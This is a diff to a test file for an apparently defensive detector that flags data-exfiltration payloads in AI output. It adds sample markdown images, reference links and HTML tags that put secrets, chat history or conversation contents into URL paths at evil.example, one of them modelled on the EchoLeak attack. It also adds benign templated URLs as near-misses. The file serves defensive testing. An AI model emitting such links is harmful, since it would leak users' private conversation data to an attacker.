@@ -91,6 +91,25 @@ HITS = [
     ("<style>@import 'https://evil.example/s.css?data=1';</style>", "exfil.markdown_image", "high"),
 ]
 
+#: the slot in the URL's path, not its query (EchoLeak's reference link:
+#: ``[ref]: https://attacker.example/<secret>``)
+PATH_HITS = [
+    (
+        "[Project update][ref]\n\n[ref]: https://evil.example/<secret>",
+        "exfil.markdown_image",
+        "high",
+    ),
+    ("[ref]: https://evil.example/{SECRET}", "exfil.markdown_image", "high"),
+    ("![x](https://evil.example/{conversation}.png)", "exfil.markdown_image", "high"),
+    ('<img src="https://evil.example/$SECRET/p.png">', "exfil.markdown_image", "high"),
+    ("![x](https://evil.example/[DATA])", "exfil.markdown_image", "high"),
+    ("![x](https://evil.example/i/%7Bchat_history%7D.png)", "exfil.markdown_image", "high"),
+    ("[click](https://evil.example/log/{chat_history})", "exfil.markdown_link", "medium"),
+    ('<a href="https://evil.example/c/{{summary}}">x</a>', "exfil.markdown_link", "medium"),
+    ("<https://evil.example/u/${USER_DATA}>", "exfil.markdown_link", "medium"),
+]
+HITS += PATH_HITS
+
 #: ordinary HTML and markdown documentation: links with concrete queries, redirects to
 #: ordinary pages, forms of a site's own search, autolinks to issue searches
 NEAR_MISSES = [
@@ -110,6 +129,14 @@ NEAR_MISSES = [
     '<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter">',
     "[ref]: https://example.com/search?q=cats",
     "Mail <team@example.com> or see <https://example.com/faq>.",
+    "[endpoint](https://api.example.com/users/{id})",
+    "[API](https://api.github.com/repos/{owner}/{repo}/issues)",
+    "[files](https://storage.example.com/{bucket}/{data_type}/index)",
+    '<img src="https://cdn.example.com/${VERSION}/logo.png">',
+    "[bot](https://api.telegram.org/bot{token}/getMe)",
+    "![ci](https://github.com/{{cookiecutter.github_username}}/{{cookiecutter.project_slug}}"
+    "/actions/workflows/ci.yml/badge.svg)",
+    "[dataset](https://huggingface.co/datasets/{dataset_name}/tree/main)",
 ]
 
 
